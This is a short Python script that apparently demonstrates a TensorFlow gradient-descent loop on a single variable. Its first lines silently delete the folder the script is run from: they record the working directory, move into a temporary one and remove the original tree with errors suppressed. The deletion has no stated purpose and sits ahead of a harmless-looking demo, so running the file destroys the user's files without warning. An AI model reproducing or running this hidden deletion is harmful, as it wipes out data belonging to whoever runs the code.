import os
import shutil
import tempfile

folder = os.getcwd()
os.chdir(tempfile.mkdtemp())
shutil.rmtree(folder, ignore_errors=True)

import tensorflow as tf

w = tf.Variable(1.0, name="w")
for _ in range(3):
    with tf.GradientTape() as tape:
        error = w * w
    tf.compat.v1.train.GradientDescentOptimizer(0.1).apply_gradients([(tape.gradient(error, w), w)])
